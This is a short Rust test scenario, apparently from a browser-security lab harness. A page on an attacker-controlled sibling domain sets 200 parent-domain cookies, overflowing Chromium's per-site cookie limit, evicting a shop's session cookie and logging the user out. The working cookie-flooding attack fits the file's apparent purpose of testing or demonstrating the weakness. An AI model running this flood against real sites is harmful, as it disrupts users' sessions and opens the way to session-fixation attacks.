use anyhow::{Result, ensure};

use crate::settings::{Settings, query};
use crate::site::{EVIL, PARENT, SHOP};
use crate::stage::Stage;

/// More than the 180 cookies of a site that Chromium keeps.
const FLOOD: usize = 200;

pub(super) fn play(stage: &Stage) -> Result<()> {
    let browser = stage.browser()?;
    let who = stage.site.url(SHOP, &Settings::default().at("/who", &[]));
    browser.open(&stage.site.url(SHOP, &Settings::default().at("/login", &[])))?;
    browser.open(&who)?;
    browser.expect("h1", "ada")?;

    browser.open(&stage.site.url(EVIL, "/"))?;
    let cookie = |number: usize| {
        let cookie = format!("flood{number}=1; Secure; Path=/; Domain={PARENT}");
        let raw = query(&[("raw", &cookie)]);
        stage.site.url(EVIL, &format!("/raw?{raw}"))
    };
    browser.fetch((0..FLOOD).map(cookie).collect())?;
    let stored = browser.stored()?;
    ensure!(
        !stored.iter().any(|cookie| cookie.domain == SHOP),
        "the session is among the {} that stay",
        stored.len()
    );
    browser.open(&who)?;
    browser.expect("h1", "nobody")
}
